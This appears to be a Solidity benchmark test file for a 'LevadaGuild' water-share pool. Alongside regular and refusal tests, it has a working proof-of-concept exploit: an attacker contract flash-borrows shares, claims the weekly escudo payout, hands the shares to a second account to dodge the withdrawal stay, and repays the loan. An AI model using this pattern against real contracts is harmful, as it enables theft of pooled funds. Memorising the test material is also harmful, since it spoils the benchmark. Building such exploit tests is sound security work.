// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./LevadaGuild.sol";

// assay-canary-bd26389d-3002-41dd-9854-ba5df64f4aba

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is IShareToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

interface IBorrower {
    function onLoan(uint256 amount) external;
}

/// Lends water shares for the length of a call, free of charge.
contract ShareLender {
    Coin internal share;

    constructor(Coin share_) {
        share = share_;
    }

    function lend(uint256 amount) external {
        uint256 before = share.balanceOf(address(this));
        share.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(share.balanceOf(address(this)) >= before, "not returned");
    }
}

/// The attacker's second account: takes the place over and lifts the shares.
contract Cousin {
    LevadaGuild internal guild;
    address internal owner;

    constructor(LevadaGuild guild_) {
        guild = guild_;
        owner = msg.sender;
        guild_.agree(msg.sender);
    }

    function lift(uint128 shares, Coin share) external {
        guild.lift(shares);
        share.transfer(owner, shares);
    }
}

contract Attacker is IBorrower {
    LevadaGuild internal guild;
    ShareLender internal lender;
    Coin internal share;
    Cousin internal cousin;

    constructor(LevadaGuild guild_, ShareLender lender_, Coin share_) {
        (guild, lender, share) = (guild_, lender_, share_);
        cousin = new Cousin(guild_);
        share_.approve(address(guild_), type(uint256).max);
    }

    function run() external {
        lender.lend(share.balanceOf(address(lender)));
    }

    function onLoan(uint256 amount) external {
        guild.lodge(uint128(amount));
        guild.spread();
        guild.draw();
        guild.handOn(address(cousin), uint128(amount));
        cousin.lift(uint128(amount), share);
        share.transfer(msg.sender, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA);
    address internal constant RUI = address(0xB);

    Coin internal share;
    Coin internal escudo;
    LevadaGuild internal guild;
    Attacker internal eel;

    function setUp() public {
        vm.warp(1_700_000_000);
        share = new Coin();
        escudo = new Coin();
        guild = new LevadaGuild(share, escudo);
        _lodge(ANA, 600e18);
        _lodge(RUI, 400e18);
        escudo.mint(address(this), 20_000e18);
        escudo.approve(address(guild), 20_000e18);
        guild.payWater(10_000e18);
        vm.warp(block.timestamp + 8 days);
        ShareLender lender = new ShareLender(share);
        share.mint(address(lender), 9_000e18);
        eel = new Attacker(guild, lender, share);
    }

    function _lodge(address who, uint128 amount) private {
        share.mint(who, amount);
        vm.prank(who);
        share.approve(address(guild), amount);
        vm.prank(who);
        guild.lodge(amount);
    }

    function test_Regular() public {
        guild.spread();
        vm.prank(ANA);
        require(guild.draw() == 6_000e18, "six tenths");
        require(!_try(abi.encodeCall(guild.spread, ())), "one round a week");
        vm.prank(ANA);
        guild.lift(100e18);
        require(share.balanceOf(ANA) == 100e18, "lifted");
        _lodge(ANA, 100e18);
        vm.prank(ANA);
        require(!_try(abi.encodeCall(guild.lift, (1))), "a stay of a week");

        vm.prank(RUI);
        require(!_try(abi.encodeCall(guild.handOn, (address(0xC), 400e18))), "no word given");
        vm.prank(address(0xC));
        guild.agree(RUI);
        vm.prank(RUI);
        guild.handOn(address(0xC), 400e18);
        guild.payWater(10_000e18);
        vm.warp(block.timestamp + 8 days);
        guild.spread();
        vm.prank(RUI);
        require(guild.draw() == 4_000e18, "what was due stays with the holder");
        vm.prank(address(0xC));
        require(guild.draw() == 4_000e18, "the heir's round");
        vm.prank(address(0xC));
        guild.lift(400e18);
        require(share.balanceOf(address(0xC)) == 400e18 && guild.lodged() == 600e18, "the heir's shares");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(guild).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Nothing is lodged, and nobody to spread to.
    function test_RefusesNothing() public {
        refuses(ANA, LevadaGuild.Zero.selector);
        guild.lodge(0);
        LevadaGuild empty = new LevadaGuild(share, escudo);
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(LevadaGuild.NobodyLodged.selector);
        empty.spread();
    }

    /// Coins that say no are believed.
    function test_RefusesFailedTransfers() public {
        escudo.sleep(true);
        vm.expectRevert(LevadaGuild.Refused.selector);
        guild.payWater(1);
        refuses(ANA, LevadaGuild.Refused.selector);
        guild.draw();
    }

    function exploit() public {
        eel.run();
    }

    function test_Exploit() public {
        exploit();
        require(escudo.balanceOf(address(eel)) >= 9_000e18 - 1e9, "no water money");
    }

    function target() public view returns (address) {
        return address(guild);
    }

    function attacker() public view returns (address) {
        return address(eel);
    }

    function money() public view returns (address) {
        return address(escudo);
    }
}
